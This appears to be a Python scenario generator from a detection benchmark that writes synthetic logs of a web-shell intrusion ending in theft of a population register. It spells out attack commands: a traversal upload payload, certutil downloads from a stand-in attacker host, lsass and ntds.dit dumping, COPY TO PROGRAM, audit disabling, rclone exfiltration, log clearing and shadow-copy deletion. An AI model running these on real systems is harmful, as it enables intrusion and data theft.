"""webshell-to-register: from a hole in a public portal to the people's register, over two nights."""

from __future__ import annotations

from bench.weeks import border, linux, web
from bench.weeks import windows as win
from bench.weeks.database import Session
from bench.weeks.estate import ADMINS, DB, DBAS, DC, DOMAIN, FILES, IIS, TERMINAL
from bench.weeks.programs import PROGRAMS, Program
from bench.weeks.scene import Scene
from bench.weeks.tale import Tale

THIEF = "198.51.100.77"
_POOL = "IIS APPPOOL\\tatime"
_W3WP = 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "tatime" -v "v4.0" -l "webengine4.dll" -a \\\\.\\pipe\\iisipm5c1 -h "C:\\inetpub\\temp\\apppools\\tatime\\tatime.config" -w "" -m 0'
_SHELL = "/Upload/Docs/foto_profili.aspx"
_AGENT = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36"
)
_ADMIN = ADMINS[0]
_DBA = DBAS[0]
_MUSIC = "C:\\Users\\Public\\Music\\"
POTATO = Program("C:\\Windows\\Temp\\gp.exe", "GodPotato.exe", "GodPotato", "GodPotato", "-", "1.0.0.0")
DUMPER = Program(
    _MUSIC + "pg_dump.exe",
    "pg_dump.exe",
    "pg_dump - backs up a database",
    "PostgreSQL",
    "PostgreSQL Global Development Group",
    "15.8",
)
PSQL = Program(
    _MUSIC + "psql.exe",
    "psql.exe",
    "psql - the PostgreSQL interactive terminal",
    "PostgreSQL",
    "PostgreSQL Global Development Group",
    "15.8",
)
SEVEN = Program(_MUSIC + "7za.exe", "7za.exe", "7-Zip Standalone Console", "7-Zip", "Igor Pavlov", "24.08")
RCLONE = Program(_MUSIC + "rclone.exe", "rclone.exe", "Rclone", "Rclone", "https://rclone.org", "1.68.1")


def webshell(t: Tale) -> None:
    """Sixteen steps."""
    _exploit(t)
    _shell(t)
    _discover(t)
    _fetch_tool(t)
    _dump_lsass(t)
    _lateral(t)
    _controller(t)
    _ntds(t)
    _bulk_read(t)
    _program(t)
    _audit_off(t)
    _dump(t)
    _stage(t)
    _exfiltrate(t)
    _clear(t)


def _exploit(t: Tale) -> None:
    s = t.step("IIS01", "probes and then exploits the portal's upload handler", "T1190")
    for stem, status in (
        ("/Upload/", 403),
        ("/Upload/Ngarko.ashx", 500),
        ("/Upload/Ngarko.ashx", 500),
        ("/Upload/Ngarko.ashx", 200),
    ):
        web.iis(
            s,
            THIEF,
            "POST" if "ashx" in stem else "GET",
            stem,
            "dosja=..%2f..%2fDocs&emri=foto_profili.aspx%00.jpg" if status == 200 else "",
            status,
            "python-requests/2.31.0",
        )
        border.conn(s, THIEF, IIS.address, 443, "ssl", 9000, 1800)
        s.wait(50)
    t.done(s)


def _by_shell(s: Scene, line: str, name: str = "") -> None:
    """A command through the web shell: request, cmd.exe, and its child."""
    web.iis(s, THIEF, "POST", _SHELL, "", 200, _AGENT)
    shell = f'"cmd.exe" /c {line}'
    win.start(s, IIS, "cmd", shell, _POOL, "w3wp", _W3WP, "c:\\windows\\system32\\inetsrv\\")
    if name:
        s.wait(0.1)
        win.start(s, IIS, name, line, _POOL, "cmd", shell, "c:\\windows\\system32\\inetsrv\\")
    s.wait(45)


def _shell(t: Tale) -> None:
    s = t.step("IIS01", "web shell written into the upload folder and first used", "T1505.003", 1)
    image = PROGRAMS["w3wp"].path
    win.file(s, IIS, image, "C:\\inetpub\\wwwroot\\tatime\\Upload\\Docs\\foto_profili.aspx", _POOL)
    s.wait(4)
    web.iis(s, THIEF, "GET", _SHELL, "", 200, _AGENT)
    win.start(
        s,
        IIS,
        "csc",
        '"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe" /t:library /utf8output /R:"System.Web.dll" /out:"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\root\\b1a4\\App_Web_x1.dll"',
        _POOL,
        "w3wp",
        _W3WP,
    )
    s.wait(9)
    _by_shell(s, "whoami", "whoami")
    t.done(s)


def _discover(t: Tale) -> None:
    s = t.step("IIS01", "looks round the machine and the domain", "T1087.002", 3)
    for line, name in (
        ("whoami /all", "whoami"),
        ("ipconfig /all", "ipconfig"),
        ("systeminfo", "systeminfo"),
        ("tasklist /svc", "tasklist"),
        ("net user /domain", "net"),
        ('net group "Domain Admins" /domain', "net"),
        ("nltest /dclist:ministria.example", "nltest"),
        ("net view \\\\fs01 /all", "net"),
        ("netstat -ano", "netstat"),
    ):
        _by_shell(s, line, name)
    t.done(s)


def _fetch_tool(t: Tale) -> None:
    s = t.step("IIS01", "fetches a privilege tool and becomes SYSTEM", "T1105", 12)
    certutil = PROGRAMS["certutil"].path
    _by_shell(s, f"certutil -urlcache -split -f http://{THIEF}:8080/gp.txt C:\\Windows\\Temp\\gp.exe", "certutil")
    win.connect(s, IIS, certutil, THIEF, 8080, _POOL)
    win.file(s, IIS, certutil, "C:\\Windows\\Temp\\gp.exe", _POOL)
    border.conn(s, IIS.address, THIEF, 8080, "http", 300, 61440)
    s.wait(30)
    win.start(
        s,
        IIS,
        "gp",
        'C:\\Windows\\Temp\\gp.exe -cmd "cmd /c whoami"',
        _POOL,
        "cmd",
        '"cmd.exe" /c C:\\Windows\\Temp\\gp.exe -cmd "cmd /c whoami"',
        program=POTATO,
    )
    win.start(s, IIS, "cmd", "cmd /c whoami", win.SYSTEM, POTATO.path, 'C:\\Windows\\Temp\\gp.exe -cmd "cmd /c whoami"')
    win.start(s, IIS, "whoami", "whoami", win.SYSTEM, "cmd", "cmd /c whoami")
    t.done(s)


def _dump_lsass(t: Tale) -> None:
    s = t.step("IIS01", "dumps the memory of lsass with comsvcs.dll", "T1003.001", 7)
    line = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 692 C:\\Windows\\Temp\\err.dmp full"
    over = f'C:\\Windows\\Temp\\gp.exe -cmd "cmd /c {line}"'
    web.iis(s, THIEF, "POST", _SHELL, "", 200, _AGENT)
    win.start(s, IIS, "gp", over, _POOL, "cmd", f'"cmd.exe" /c {over}', program=POTATO)
    win.start(s, IIS, "cmd", f"cmd /c {line}", win.SYSTEM, POTATO.path, over)
    _, image = win.start(s, IIS, "rundll32", line, win.SYSTEM, "cmd", f"cmd /c {line}")
    s.wait(0.3)
    trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6e4c|C:\\Windows\\System32\\comsvcs.dll+1f7a2|C:\\Windows\\system32\\rundll32.exe+3b1e"
    win.access(s, IIS, image, "C:\\Windows\\system32\\lsass.exe", "0x1fffff", trace)
    win.file(s, IIS, image, "C:\\Windows\\Temp\\err.dmp")
    s.wait(60)
    web.iis(s, THIEF, "GET", "/Upload/Docs/err.zip", "", 200, _AGENT)
    border.conn(s, THIEF, IIS.address, 443, "ssl", 2000, 41_000_000)
    t.done(s)


def _lateral(t: Tale) -> None:
    s = t.step(
        "TS01", "runs a service on the terminal server with an administrator's stolen account", "T1569.002", hours=10.6
    )
    win.logon(s, TERMINAL, _ADMIN.account, 3, IIS.address, "-", "NTLM", elevated=True)
    data: dict[str, str | None] = {
        "PackageName": "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0",
        "TargetUserName": _ADMIN.account,
    }
    win.security(s, DC, 4776, data | {"Workstation": "", "Status": "0x0"})
    win.share(s, TERMINAL, _ADMIN, IIS.address, "IPC$", "svcctl", "0x3")
    win.share(s, TERMINAL, _ADMIN, IIS.address, "ADMIN$", "qWzRtYbe.exe", "0x12019f")
    win.file(s, TERMINAL, "System", "C:\\Windows\\qWzRtYbe.exe")
    win.service(s, TERMINAL, "kXbT", "%systemroot%\\qWzRtYbe.exe")
    image = "C:\\Windows\\qWzRtYbe.exe"
    remcom = Program(image, "-", "-", "-", "-", "-")
    win.start(
        s, TERMINAL, "qWzRtYbe", image, win.SYSTEM, "services", "C:\\Windows\\system32\\services.exe", program=remcom
    )
    for line, name in (("cmd.exe", "cmd"), ("whoami", "whoami"), ("quser", "quser")):
        s.wait(20)
        win.start(
            s,
            TERMINAL,
            name,
            line,
            win.SYSTEM,
            image if name == "cmd" else "cmd",
            image if name == "cmd" else "cmd.exe",
        )
    t.done(s)


def _controller(t: Tale) -> None:
    s = t.step("DC01", "remote desktop from the terminal server to the domain controller", "T1021.001", 14)
    win.logon(s, TERMINAL, _ADMIN.account, 10, IIS.address, TERMINAL.name, elevated=True)
    win.connect(
        s,
        TERMINAL,
        "C:\\Windows\\System32\\svchost.exe",
        TERMINAL.address,
        3389,
        "NT AUTHORITY\\NETWORK SERVICE",
        source=IIS.address,
    )
    s.wait(60)
    _, image = win.start(
        s, TERMINAL, "mstsc", "mstsc.exe /v:dc01 /restrictedadmin", _ADMIN.user, "explorer", "C:\\Windows\\Explorer.EXE"
    )
    win.connect(s, TERMINAL, image, DC.address, 3389, _ADMIN.user, DC.fqdn)
    s.wait(4)
    win.ticket(s, _ADMIN.account, TERMINAL.address)
    win.logon(s, DC, _ADMIN.account, 10, TERMINAL.address, DC.name, elevated=True)
    win.start(s, DC, "userinit", "C:\\Windows\\system32\\userinit.exe", _ADMIN.user, "winlogon", "winlogon.exe")
    win.start(s, DC, "explorer", "C:\\Windows\\Explorer.EXE", _ADMIN.user, "userinit")
    t.done(s)


def _ntds(t: Tale) -> None:
    s = t.step("DC01", "copies the directory's database by an install-from-media set", "T1003.003", 5)
    win.start(s, DC, "cmd", '"C:\\Windows\\system32\\cmd.exe"', _ADMIN.user, "explorer", "C:\\Windows\\Explorer.EXE")
    s.wait(15)
    line = 'ntdsutil  "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\ifm" q q'
    _, image = win.start(s, DC, "ntdsutil", line, _ADMIN.user, "cmd", '"C:\\Windows\\system32\\cmd.exe"')
    win.service_state(s, DC, "Volume Shadow Copy", "running")
    for code in (325, 326, 327):
        win.record(
            s,
            DC,
            "Application",
            "ESENT",
            code,
            {"Data": "lsass,692,D,0;C:\\Windows\\Temp\\ifm\\Active Directory\\ntds.dit;1"},
        )
    s.wait(20)
    win.file(s, DC, image, "C:\\Windows\\Temp\\ifm\\Active Directory\\ntds.dit", _ADMIN.user)
    win.file(s, DC, image, "C:\\Windows\\Temp\\ifm\\registry\\SYSTEM", _ADMIN.user)
    t.done(s)


def _bulk_read(t: Tale) -> None:
    s = t.step(
        "db01",
        "reads the whole register with a DBA's stolen account, from the terminal server",
        "T1213.006",
        hours=20.5,
    )
    win.logon(s, TERMINAL, _DBA.account, 10, IIS.address, TERMINAL.name)
    line = f"{_MUSIC}psql.exe -h db01.ministria.example -U kastriot regjistri"
    _, image = win.start(s, TERMINAL, "psql", line, _DBA.user, "cmd", '"C:\\Windows\\system32\\cmd.exe"', _MUSIC, PSQL)
    win.connect(s, TERMINAL, image, DB.address, 5432, _DBA.user, DB.fqdn)
    db = Session(s, "kastriot", TERMINAL.address, "psql")
    db.connect()
    db.run(
        "READ",
        "SELECT",
        "SELECT n.nspname, c.relname, c.reltuples FROM pg_catalog.pg_class c JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace ORDER BY 3 DESC",
        412,
    )
    s.wait(90)
    db.run("READ", "SELECT", "SELECT * FROM gjendja.persona", 2871332, 301000.0)
    t.done(s)


def _program(t: Tale) -> None:
    s = t.step("db01", "runs commands on the database server by COPY … TO PROGRAM", "T1059.004", 9)
    db = Session(s, "kastriot", TERMINAL.address, "psql")
    for line in ("id > /tmp/.x", "uname -a >> /tmp/.x; cat /etc/passwd >> /tmp/.x"):
        text = f"COPY (SELECT 1) TO PROGRAM '{line}'"
        db.run("WRITE", "COPY", text, 1, 44.0)
        linux.execve(s, DB, "/usr/bin/dash", ["sh", "-c", line], "postgres", folder="/var/lib/postgresql/15/main")
        for part in line.split("; "):
            words = part.split(" >")[0].split()
            linux.execve(s, DB, f"/usr/bin/{words[0]}", words, "postgres", folder="/var/lib/postgresql/15/main")
        s.wait(60)
    t.done(s)


def _audit_off(t: Tale) -> None:
    s = t.step("db01", "switches pgaudit off", "T1562.008", 6)
    db = Session(s, "kastriot", TERMINAL.address, "psql")
    db.run("DDL", "ALTER SYSTEM", "ALTER SYSTEM SET pgaudit.log = 'none'", 0, 5.0)
    db.run("READ", "SELECT", "SELECT pg_reload_conf()", 1)
    server = Session(s, "", "[local]", "", "")
    server.log("", "received SIGHUP, reloading configuration files")
    server.log("", 'parameter "pgaudit.log" changed to "none"')
    t.done(s)


def _dump(t: Tale) -> None:
    s = t.step("db01", "dumps the register with pg_dump under the DBA's account", "T1213.006", 4)
    line = f"{_MUSIC}pg_dump.exe -h db01.ministria.example -U kastriot -Fc -f {_MUSIC}r.bin regjistri"
    _, image = win.start(
        s, TERMINAL, "pg_dump", line, _DBA.user, "cmd", '"C:\\Windows\\system32\\cmd.exe"', _MUSIC, DUMPER
    )
    win.connect(s, TERMINAL, image, DB.address, 5432, _DBA.user, DB.fqdn)
    db = Session(s, "kastriot", TERMINAL.address, "pg_dump")
    db.connect()
    win.file(s, TERMINAL, image, _MUSIC + "r.bin", _DBA.user)
    for table in ("gjendja.persona", "gjendja.adresa", "mjete.automjet"):
        s.wait(120)
        db.log(
            "COPY",
            f"duration: {s.rng.uniform(20000, 90000):.3f} ms  statement: COPY {table} (id, nid, emri, mbiemri, datelindja) TO stdout;",
        )
    db.leave()
    t.done(s)


def _stage(t: Tale) -> None:
    s = t.step("TS01", "packs the dump with a password", "T1560.001", 8)
    line = f"{_MUSIC}7za.exe a -t7z -mhe=on -pT1rana#26 -v400m {_MUSIC}m.7z {_MUSIC}r.bin"
    _, image = win.start(s, TERMINAL, "7za", line, _DBA.user, "cmd", '"C:\\Windows\\system32\\cmd.exe"', _MUSIC, SEVEN)
    for n in range(1, 4):
        s.wait(40)
        win.file(s, TERMINAL, image, f"{_MUSIC}m.7z.{n:03d}", _DBA.user)
    t.done(s)


def _exfiltrate(t: Tale) -> None:
    s = t.step("TS01", "copies the archive to a cloud storage with rclone", "T1567.002", 6)
    line = f'{_MUSIC}rclone.exe copy {_MUSIC} mega:m --include "m.7z.*" --transfers 8 --no-check-certificate -q'
    _, image = win.start(
        s, TERMINAL, "rclone", line, _DBA.user, "cmd", '"C:\\Windows\\system32\\cmd.exe"', _MUSIC, RCLONE
    )
    win.query(s, TERMINAL, image, "g.api.mega.co.nz", "203.0.113.99", _DBA.user)
    border.dns(s, TERMINAL.address, "g.api.mega.co.nz", "203.0.113.99")
    for _ in range(4):
        win.connect(s, TERMINAL, image, "203.0.113.99", 443, _DBA.user, "g.api.mega.co.nz")
        border.conn(s, TERMINAL.address, "203.0.113.99", 443, "ssl", 310_000_000, 900_000, took=240.0)
        s.wait(30)
    t.done(s)


def _clear(t: Tale) -> None:
    s = t.step("TS01", "clears the event logs", "T1070.001", 30)
    shell = '"C:\\Windows\\system32\\cmd.exe"'
    win.start(s, TERMINAL, "wevtutil", "wevtutil  cl System", _ADMIN.user, "cmd", shell)
    who: dict[str, str | None] = {"SubjectUserName": _ADMIN.account, "SubjectDomainName": DOMAIN}
    win.record(s, TERMINAL, "System", "Microsoft-Windows-Eventlog", 104, who | {"Channel": "System", "BackupPath": ""})
    win.start(s, TERMINAL, "wevtutil", "wevtutil  cl Security", _ADMIN.user, "cmd", shell)
    win.record(
        s,
        TERMINAL,
        "Security",
        "Microsoft-Windows-Eventlog",
        1102,
        who | {"SubjectUserSid": _ADMIN.sid, "SubjectLogonId": "0x9f1ab2"},
    )
    t.done(s)
    s = t.step("FS01", "deletes the shadow copies of the file server", "T1490", 6)
    win.logon(s, FILES, _ADMIN.account, 3, TERMINAL.address, "-", "NTLM", elevated=True)
    line = 'wmic  /node:fs01 process call create "cmd /c vssadmin delete shadows /all /quiet"'
    win.start(s, TERMINAL, "wmic", line, _ADMIN.user, "cmd", shell)
    s.wait(1)
    win.start(
        s,
        FILES,
        "cmd",
        "cmd /c vssadmin delete shadows /all /quiet",
        _ADMIN.user,
        "wmiprvse",
        "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
    )
    win.start(
        s,
        FILES,
        "vssadmin",
        "vssadmin  delete shadows /all /quiet",
        _ADMIN.user,
        "cmd",
        "cmd /c vssadmin delete shadows /all /quiet",
    )
    win.service_state(s, FILES, "Volume Shadow Copy", "running")
    t.done(s)
